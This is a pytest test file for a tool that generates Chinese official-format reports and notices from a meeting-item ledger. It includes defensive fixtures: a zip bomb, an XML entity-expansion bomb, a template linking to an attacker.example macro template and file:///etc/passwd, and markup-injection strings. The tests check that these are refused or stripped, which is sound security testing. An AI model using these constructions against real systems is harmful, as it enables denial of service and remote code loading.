"""The documents a leader receives, read back as a reader's program sees them: the .docx
with python-docx (page, margins, fonts for Chinese, tables, page numbers), and the review
and the notice in Markdown."""

from __future__ import annotations

import io
from pathlib import Path

import docx
import pytest
from conftest import LI, ZHANG, Repo, RunCli, item_yaml
from docx.oxml.ns import qn
from docx.shared import Mm

from huishang.output import gongwen
from huishang.output.escape import xml_text

MEETING = ("id: m1\ntitle: 两院第一次会商会\ndate: 2024-04-01\n"
           "parties: [最高人民法院, 最高人民检察院]\nlevel: national\nagreed_items: 4\n"
           "aspects:\n  - key: A1\n    title: 共同推进规范司法\n"
           "  - key: A2\n    title: 共同加强协作配合\n")
LATER = ("id: m2\ntitle: 两院第二次会商会\ndate: 2024-10-01\n"
         "parties: [最高人民法院, 最高人民检察院]\nlevel: national\n")
UNITS = ("units:\n  - name: 最高人民法院\n    short: [最高法]\n"
         "  - name: 最高人民检察院\n    short: [最高检]\n  - name: 司法部\n")


@pytest.fixture
def ledger(tmp_path: Path) -> Repo:
    root = tmp_path / "ledger"
    root.mkdir()
    repo = Repo(root)
    repo.write("units.yaml", UNITS)
    repo.write("items/m1/meeting.yaml", MEETING)
    repo.write("items/m1/m1-01.yaml", item_yaml(
        "m1-01", title="统一量刑建议审查标准", aspect="A1", lead="最高法",
        partners="[最高检]", due="2024-06-30", status="done",
        updates="\n  - date: 2024-05-10\n    note: 起草完成。\n  - date: 2024-06-25\n"
        "    note: 已印发",
        done_on="2024-06-25", evidence="[法〔2024〕9号]"))
    repo.write("items/m1/m1-02.yaml", item_yaml(
        "m1-02", title="建立案件质效会商通报机制", aspect="A1", lead="最高检",
        partners="[最高法, 司法部]", due="2024-07-31", status="in_progress",
        owner="{division: 第一检察厅, person: 王五}",
        updates="\n  - date: 2024-05-20\n    note: 形成初稿"))
    repo.write("items/m1/m1-03.yaml", item_yaml(
        "m1-03", title="规范仲裁裁决司法审查", aspect="A2", lead="最高法", due="2024-12-31",
        status="blocked", updates="\n  - date: 2024-08-01\n    note: 待立法机关明确"))
    repo.write("items/m1/m1-04.yaml", item_yaml(
        "m1-04", title="共建鉴定人名册", aspect="A2", lead="司法部", due="2025-06-30",
        status="planned"))
    repo.write("items/m2/meeting.yaml", LATER)
    repo.write("items/m2/m2-01.yaml", item_yaml(
        "m2-01", title="建立案件质效会商通报机制（续）", aspect=None, lead="最高检",
        due="2025-03-31", status="in_progress", carried_from="m1-02"))
    repo.commit("ledger", ZHANG, "2024-08-02")
    return repo


def _docx(path: Path) -> docx.document.Document:
    return docx.Document(io.BytesIO(path.read_bytes()))


def _east_asian(style: object) -> str | None:
    fonts = style.element.rPr.find(qn("w:rFonts"))  # type: ignore[attr-defined]
    return fonts.get(qn("w:eastAsia")) if fonts is not None else None


def _texts(document: docx.document.Document) -> list[str]:
    return [p.text for p in document.paragraphs]


def test_bulletin_docx_is_a_gongwen(run: RunCli, ledger: Repo, tmp_path: Path) -> None:
    ledger.write("huishang.yaml", "documents:\n  issuer: 最高人民法院研究室\n"
                 "  first_issue: 2024-01\n")
    ledger.commit("settings", LI, "2024-08-03")
    out = tmp_path / "通报.docx"
    result = run("bulletin", "--month", "2024-08", "--format", "docx", "-o", str(out),
                 "--repo", str(ledger.root), "--today", "2024-09-03")
    assert result.exit_code == 0, result.output
    document = _docx(out)

    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert [round(m.mm) for m in (section.top_margin, section.bottom_margin,
                                  section.left_margin, section.right_margin)] == [37, 35, 28, 26]
    grid = section._sectPr.find(qn("w:docGrid"))
    assert grid.get(qn("w:linePitch")) == "579"  # 22 lines in 225 mm

    styles = document.styles
    assert _east_asian(styles["Normal"]) == "仿宋_GB2312"
    assert styles["Normal"].font.size.pt == 16
    assert _east_asian(styles["Title"]) == "方正小标宋简体"
    assert styles["Title"].font.size.pt == 22
    assert _east_asian(styles["Heading 1"]) == "黑体"
    assert _east_asian(styles["Heading 2"]) == "楷体_GB2312"
    # 28 characters of 16 pt, set a little tighter, fit the 156 mm line
    spacing = int(styles["Normal"].element.rPr.find(qn("w:spacing")).get(qn("w:val")))
    assert 28 * (16 + spacing / 20) <= Mm(156).pt < 28 * (16 + (spacing + 1) / 20)

    texts = _texts(document)
    assert texts[:3] == ["会商事项落实情况通报", "第8期", "最高人民法院研究室\t2024年9月3日"]
    masthead = document.paragraphs[0]
    assert masthead.style.font.color.rgb == docx.shared.RGBColor.from_string(gongwen.RED)
    title = next(p for p in document.paragraphs if p.style.name == "Title")
    assert title.text == "2024年8月会商议定事项落实进展情况"
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    assert headings[0] == "一、总体情况" and headings[-1] == "十二、下一步工作"
    assert "本期通报2024年8月1日至2024年8月31日会商事项落实情况。" in texts

    blocked = next(t for t in document.tables if t.rows[0].cells[-1].text == "原因及最新进展")
    assert [c.text for c in blocked.rows[1].cells] == [
        "3", "规范仲裁裁决司法审查", "最高人民法院", "受阻", "待立法机关明确"]  # 第3项
    header = blocked.rows[0]._tr.trPr
    assert header.find(qn("w:tblHeader")) is not None  # repeated on every page
    assert header.find(qn("w:cantSplit")) is not None

    # — 1 — at the foot, right on odd pages and left on even ones
    assert document.settings.odd_and_even_pages_header_footer
    for footer in (section.footer, section.even_page_footer):
        xml = footer.paragraphs[0]._p.xml
        assert 'w:instr="PAGE"' in xml
        assert footer.paragraphs[0].text.startswith("\u2014 ")
    assert "git" not in "\n".join(texts) and "m1-0" not in "\n".join(texts)


def test_an_office_template_keeps_its_own_text_and_styles(run: RunCli, ledger: Repo,
                                                          tmp_path: Path) -> None:
    template = docx.Document()
    template.add_paragraph("某某省高级人民法院研究室 {{issue}}")
    template.add_paragraph("{{date}}")
    template.styles["Normal"].font.size = docx.shared.Pt(15)
    template.sections[0].left_margin = Mm(30)
    template.save(ledger.root / "公文模板.docx")
    ledger.write("huishang.yaml", "documents:\n  template: 公文模板.docx\n")
    out = tmp_path / "通报.docx"
    result = run("bulletin", "--month", "2024-08", "--format", "docx", "-o", str(out),
                 "--issue", "3", "--repo", str(ledger.root), "--today", "2024-09-03")
    assert result.exit_code == 0, result.output
    document = _docx(out)
    texts = _texts(document)
    assert texts[:3] == ["某某省高级人民法院研究室 第3期", "2024年9月3日",
                         "2024年8月会商议定事项落实进展情况"]
    assert document.styles["Normal"].font.size.pt == 15  # the office's, not huishang's
    assert round(document.sections[0].left_margin.mm) == 30
    assert any(p.style.name == "Heading 1" for p in document.paragraphs)

    ledger.write("huishang.yaml", "documents:\n  template: ../outside.docx\n")
    refused = run("bulletin", "--month", "2024-08", "--format", "docx", "-o", str(out),
                  "--repo", str(ledger.root), "--today", "2024-09-03")
    assert refused.exit_code == 2 and "../outside.docx" in refused.output
    (ledger.root / "坏模板.docx").write_text("not a zip", encoding="utf-8")
    ledger.write("huishang.yaml", "documents:\n  template: 坏模板.docx\n")
    refused = run("bulletin", "--month", "2024-08", "--format", "docx", "-o", str(out),
                  "--repo", str(ledger.root), "--today", "2024-09-03")
    assert refused.exit_code == 2 and "坏模板.docx" in refused.output
    assert "Traceback" not in refused.output


ENTITY_BOMB = ('<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">'
               + "".join(f'<!ENTITY {n} "{("&" + p + ";") * 10}">'
                         for p, n in zip("abcdefg", "bcdefgh", strict=True)) + "]>")


def _bombed(path: Path, kind: str) -> Path:
    """A template that inflates to 96 MB (a zip bomb), or whose text is an entity that
    expands to 100 million characters (an entity bomb)."""
    import zipfile

    template = docx.Document()
    template.add_paragraph("{{title}}")
    buffer = io.BytesIO()
    template.save(buffer)
    with zipfile.ZipFile(buffer) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    if kind == "entities":
        xml = parts["word/document.xml"].decode("utf-8")
        head = xml.index("?>") + 2
        parts["word/document.xml"] = (xml[:head] + ENTITY_BOMB + xml[head:]).replace(
            "{{title}}", "&h;").encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
        if kind == "zip":
            with out.open("word/media/bomb.bin", "w") as bomb:
                for _ in range(96):
                    bomb.write(b"\0" * (1 << 20))
    return path


@pytest.mark.parametrize(("kind", "expected"), [
    ("zip", "炸弹.docx unzips to more than 67108864 bytes (at part word/media/bomb.bin; "
            "limits.unzipped_bytes in huishang.yaml); it was not read\n"),
    ("entities", "the document template 炸弹.docx cannot be used: Maximum entity "
                 "amplification factor exceeded"),
])
def test_a_bombed_template_is_refused_naming_it(run: RunCli, ledger: Repo, tmp_path: Path,
                                                kind: str, expected: str) -> None:
    _bombed(ledger.root / "炸弹.docx", kind)
    assert (ledger.root / "炸弹.docx").stat().st_size < 300_000
    ledger.write("huishang.yaml", "documents:\n  template: 炸弹.docx\n")
    out = tmp_path / "通报.docx"
    result = run("bulletin", "--month", "2024-08", "--format", "docx", "-o", str(out),
                 "--repo", str(ledger.root), "--today", "2024-09-03", "--lang", "en")
    assert result.exit_code == 2, result.output
    assert f"huishang: {expected}" in result.stderr, result.stderr
    assert not out.exists()


def test_a_template_is_bounded_by_the_ledgers_own_limits(run: RunCli, ledger: Repo,
                                                        tmp_path: Path) -> None:
    """A ledger that lowers `limits.unzipped_bytes` to 1 MiB refuses a template of 2 MiB
    unzipped, which the default of 64 MiB would let through."""
    import zipfile

    template = docx.Document()
    template.add_paragraph("{{title}}")
    template.save(ledger.root / "模板.docx")
    with zipfile.ZipFile(ledger.root / "模板.docx", "a", zipfile.ZIP_DEFLATED) as book:
        book.writestr("word/media/picture.bin", b"\0" * (2 << 20))
    out = tmp_path / "通报.docx"
    args = ("bulletin", "--month", "2024-08", "--format", "docx", "-o", str(out), "--repo",
            str(ledger.root), "--today", "2024-09-03", "--lang", "en")
    ledger.write("huishang.yaml", "documents:\n  template: 模板.docx\n")
    assert run(*args).exit_code == 0
    out.unlink()
    ledger.write("huishang.yaml", "documents:\n  template: 模板.docx\n"
                 "limits:\n  unzipped_bytes: 1048576\n")
    result = run(*args)
    assert result.exit_code == 2, result.output
    assert ("huishang: 模板.docx unzips to more than 1048576 bytes (at part "
            "word/media/picture.bin; limits.unzipped_bytes in huishang.yaml)") in result.stderr
    assert not out.exists()


def test_a_templates_outside_links_are_dropped_and_its_placeholders_filled_once(
        run: RunCli, ledger: Repo, tmp_path: Path) -> None:
    """An attached template on a web address and a `file://` picture link would be fetched
    by Word when a leader opens the document; a meeting title holding `{{issuer}}` was
    filled again as a placeholder; a part no relationship reaches is not carried over."""
    import zipfile

    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml.parser import OxmlElement

    template = docx.Document()
    template.add_paragraph("{{title}}")
    body = template.add_paragraph("正文链接 ")
    rid = template.part.relate_to("https://court.example/规定", RT.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rid)
    body._p.append(link)
    (settings,) = (p for p in template.part.package.iter_parts()
                   if str(p.partname) == "/word/settings.xml")
    attached = settings.relate_to("https://attacker.example/t.dotm",
                                       "http://schemas.openxmlformats.org/officeDocument/2006/"
                                       "relationships/attachedTemplate", is_external=True)
    element = OxmlElement("w:attachedTemplate")
    element.set(qn("r:id"), attached)
    settings.element.append(element)
    header = template.sections[0].header
    header.part.relate_to("file:///etc/passwd", RT.IMAGE, is_external=True)
    buffer = io.BytesIO()
    template.save(buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(ledger.root / "模板.docx", "w") as out:
        for name in source.namelist():
            out.writestr(name, source.read(name))
        out.writestr("evil/payload.bin", b"MZ not a part of the document")
    ledger.write("huishang.yaml", "documents:\n  template: 模板.docx\n  issuer: 某某省高级人民法院研究室\n")
    ledger.write("items/m1/meeting.yaml", MEETING.replace("两院第一次会商会", "两院{{issuer}}会商会"))
    ledger.commit("模板", ZHANG, "2024-08-03")
    out_path = tmp_path / "报告.docx"
    result = run("review", "m1", "--format", "docx", "-o", str(out_path), "--repo",
                 str(ledger.root), "--today", "2024-09-03", "--lang", "en")
    assert result.exit_code == 0, result.output
    assert result.stderr == (
        f"wrote {out_path}\n"
        "links outside the document template 模板.docx were dropped (the body's hyperlinks "
        "excepted): attachedTemplate https://attacker.example/t.dotm, "
        "image file:///etc/passwd\n")
    with zipfile.ZipFile(out_path) as made:
        names = made.namelist()
        everything = b"".join(made.read(name) for name in names)
    assert "evil/payload.bin" not in names
    assert b"attacker.example" not in everything and b"file:///" not in everything
    assert b"attachedTemplate" not in everything
    assert b"https://court.example/" in everything  # the body's hyperlink stays
    document = _docx(out_path)
    assert _texts(document)[0] == "Report on the items agreed at 两院{{issuer}}会商会"


def test_docx_needs_an_output_file(run: RunCli, ledger: Repo) -> None:
    for args in (["bulletin", "--month", "2024-08"], ["review", "m1"],
                 ["notice", "--unit", "最高法"]):
        result = run(*args, "--format", "docx", "--repo", str(ledger.root),
                     "--today", "2024-09-03")
        assert result.exit_code == 2 and "-o" in result.output, args


def test_review_reports_item_by_item(run: RunCli, ledger: Repo) -> None:
    result = run("review", "m1", "--repo", str(ledger.root), "--today", "2024-09-03")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0] == "# 关于两院第一次会商会议定事项落实情况的报告"
    assert lines[2] == ("2024年4月1日，最高人民法院、最高人民检察院召开两院第一次会商会，"
                        "议定会商事项4项。现将截至2024年9月3日的落实情况报告如下。")
    assert ("4项议定事项中，已办结1项、推进中1项、受阻1项、未启动1项、已终止0项，"
            "办结率25%。") in lines
    assert "### （一）共同推进规范司法" in lines and "### （二）共同加强协作配合" in lines
    assert ("第1项：统一量刑建议审查标准（牵头单位：最高人民法院；配合单位：最高人民检察院）。"
            "落实状态：已办结，完成时限2024年6月30日。") in lines
    assert "主要进展：2024年5月10日，起草完成；2024年6月25日，已印发。" in lines
    assert "办结依据：法〔2024〕9号。" in lines
    problems = lines[lines.index("## 三、存在的问题"):lines.index("## 四、各单位落实情况")]
    assert "第3项“规范仲裁裁决司法审查”由最高人民法院牵头，目前受阻，原因是待立法机关明确。" in problems
    assert "第2项“建立案件质效会商通报机制”由最高人民检察院牵头，已逾期34天。" in problems
    assert "第4项“共建鉴定人名册”由司法部牵头，会后155天仍未启动。" in problems
    assert "| 共同推进规范司法 | 2 | 0 | 1 | 0 | 1 | 0 | 50% |" in lines
    assert "| 最高人民法院 | 2 | 0 | 0 | 1 | 1 | 0 | 50% |" in lines


def test_review_marks_items_carried_over(run: RunCli, ledger: Repo, tmp_path: Path) -> None:
    result = run("review", "m2", "--repo", str(ledger.root), "--today", "2024-11-01")
    assert result.exit_code == 0, result.output
    assert "（由两院第一次会商会转入）" in result.stdout
    out = tmp_path / "报告.docx"
    result = run("review", "m2", "--format", "docx", "-o", str(out),
                 "--repo", str(ledger.root), "--today", "2024-11-01")
    assert result.exit_code == 0, result.output
    assert any("（由两院第一次会商会转入）" in t for t in _texts(_docx(out)))


def test_carried_from_must_name_an_item(run: RunCli, ledger: Repo) -> None:
    ledger.write("items/m2/m2-01.yaml", item_yaml(
        "m2-01", aspect=None, lead="最高检", status="in_progress", carried_from="m9-01"))
    result = run("validate", "--repo", str(ledger.root))
    assert result.exit_code == 1
    assert "carried_from" in result.output and "m9-01" in result.output


def test_unknown_meeting_is_named(run: RunCli, ledger: Repo) -> None:
    result = run("review", "m7", "--repo", str(ledger.root))
    assert result.exit_code == 2 and "m7" in result.output and "m1" in result.output


def test_notice_lists_a_units_lead_and_partner_items(run: RunCli, ledger: Repo,
                                                     tmp_path: Path) -> None:
    result = run("notice", "--unit", "最高法", "--reply-by", "2024-09-10",
                 "--repo", str(ledger.root), "--today", "2024-09-03")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0] == "# 督办提示函"
    assert lines[2] == "最高人民法院："
    assert lines.index("## 一、配合事项") > 0 and "## 一、牵头事项" not in lines
    assert ("| 2 | 建立案件质效会商通报机制 | 最高人民检察院 | 2024.07.31 | 34 | 红 "
            "| 2024.05.20，形成初稿 |") in lines
    assert any(line.startswith("请高度重视") and "2024年9月10日前" in line for line in lines)

    lead = run("notice", "--unit", "最高检", "--repo", str(ledger.root),
               "--today", "2024-09-03", "--lang", "en")
    assert "## 1. Items your unit leads" in lead.stdout
    assert "第一检察厅 王五" in lead.stdout

    quiet = run("notice", "--unit", "司法部", "--repo", str(ledger.root), "--today", "2024-05-01")
    assert quiet.exit_code == 0 and quiet.stdout == ""
    assert "没有红色、橙色预警事项" in quiet.stderr

    wrong = run("notice", "--unit", "最高法院", "--repo", str(ledger.root))
    assert wrong.exit_code == 2 and "最高人民法院" in wrong.output

    folder = tmp_path / "提示函"
    every = run("notice", "--all", "--format", "docx", "-o", str(folder),
                "--repo", str(ledger.root), "--today", "2024-09-03")
    assert every.exit_code == 0, every.output
    names = sorted(p.name for p in folder.iterdir())
    assert names == ["督办提示函-司法部.docx", "督办提示函-最高人民检察院.docx",
                     "督办提示函-最高人民法院.docx"]
    letter = _docx(folder / "督办提示函-最高人民检察院.docx")
    texts = _texts(letter)
    assert texts[0] == "督办提示函" and texts[1] == "最高人民检察院："
    assert texts[-1] == "2024年9月3日"  # the date of the letter, at the end


def test_hostile_text_stays_text_in_every_document(run: RunCli, ledger: Repo,
                                                   tmp_path: Path) -> None:
    hostile = '"</w:t><w:p>{{issuer}} =HYPERLINK(\\"x\\") <script>"'
    ledger.write("items/m1/m1-03.yaml", item_yaml(
        "m1-03", title=hostile, aspect="A2", lead="最高法", due="2024-12-31",
        status="blocked", updates="\n  - date: 2024-08-01\n    note: '**bold** [x](http://e)'"))
    ledger.write("huishang.yaml", "documents:\n  issuer: 研究室\n")
    ledger.commit("hostile", LI, "2024-08-05")
    out = tmp_path / "b.docx"
    result = run("bulletin", "--month", "2024-08", "--format", "docx", "-o", str(out),
                 "--repo", str(ledger.root), "--today", "2024-09-03")
    assert result.exit_code == 0, result.output
    cells = [c.text for t in _docx(out).tables for r in t.rows for c in r.cells]
    assert '</w:t><w:p>{{issuer}} =HYPERLINK("x") <script>' in cells
    markdown = run("review", "m1", "--repo", str(ledger.root), "--today", "2024-09-03").stdout
    assert "<script>" not in markdown and "&lt;script&gt;" in markdown
    assert "[x](http" not in markdown
    html_out = tmp_path / "b.html"
    run("bulletin", "--month", "2024-08", "--format", "html", "-o", str(html_out),
        "--repo", str(ledger.root), "--today", "2024-09-03")
    assert "<script>" not in html_out.read_text(encoding="utf-8").split("</style>")[1]


def test_xml_text_keeps_a_docx_readable() -> None:
    assert xml_text("a\x01b\x1bc\td\ne\ud800") == "a\ufffdb\ufffdc\td\ne\ufffd"


def test_english_documents_use_english_labels(run: RunCli, ledger: Repo) -> None:
    result = run("review", "m1", "--repo", str(ledger.root), "--today", "2024-09-03",
                 "--lang", "en")
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("# Report on the items agreed at 两院第一次会商会")
    assert "## 1. Overall" in result.stdout and "### (1) 共同推进规范司法" in result.stdout
    for label in ("落实", "牵头单位", "完成时限", "办结率"):
        assert label not in result.stdout


def test_issue_numbers_count_months_from_the_first() -> None:
    from huishang.reports.bulletin import issue_number

    assert issue_number("2024-01", "2024-01") == 1
    assert issue_number("2025-02", "2024-11") == 4  # across the new year
    assert issue_number("2024-10", "2024-11") is None  # before the first issue
    assert issue_number("2024-10", None) is None


def test_review_as_an_html_page(run: RunCli, ledger: Repo, tmp_path: Path) -> None:
    out = tmp_path / "报告.html"
    result = run("review", "m1", "--format", "html", "-o", str(out),
                 "--repo", str(ledger.root), "--today", "2024-09-03")
    assert result.exit_code == 0, result.output
    page = out.read_text(encoding="utf-8")
    assert "<h1>关于两院第一次会商会议定事项落实情况的报告</h1>" in page
    assert "<h2>二、分方面落实情况</h2>" in page and "<h3>（一）共同推进规范司法</h3>" in page
    assert '<p class="signature">2024年9月3日</p>' in page


def _alternates(path: Path) -> dict[str, str]:
    """The font table's alternate name of each font that has one."""
    document = _docx(path)
    table = next(rel.target_part for rel in document.part.rels.values()
                 if rel.reltype.endswith("/fontTable"))
    root = docx.oxml.parse_xml(table.blob)
    return {font.get(qn("w:name")): font.find(qn("w:altName")).get(qn("w:val"))
            for font in root.findall(qn("w:font")) if font.find(qn("w:altName")) is not None}


def test_fonts_name_the_stock_faces_to_fall_back_to(run: RunCli, ledger: Repo,
                                                    tmp_path: Path) -> None:
    out = tmp_path / "通报.docx"
    assert run("bulletin", "--month", "2024-08", "--format", "docx", "-o", str(out),
               "--repo", str(ledger.root), "--today", "2024-09-03").exit_code == 0
    assert _alternates(out) == {"方正小标宋简体": "宋体", "仿宋_GB2312": "仿宋",
                                "楷体_GB2312": "楷体"}

    ledger.write("huishang.yaml", "documents:\n  fonts: {body: 方正仿宋_GBK, table: 方正仿宋_GBK}\n")
    assert run("bulletin", "--month", "2024-08", "--format", "docx", "-o", str(out),
               "--repo", str(ledger.root), "--today", "2024-09-03").exit_code == 0
    assert _east_asian(_docx(out).styles["Normal"]) == "方正仿宋_GBK"  # the office's font rules
    assert _alternates(out)["方正仿宋_GBK"] == "仿宋"
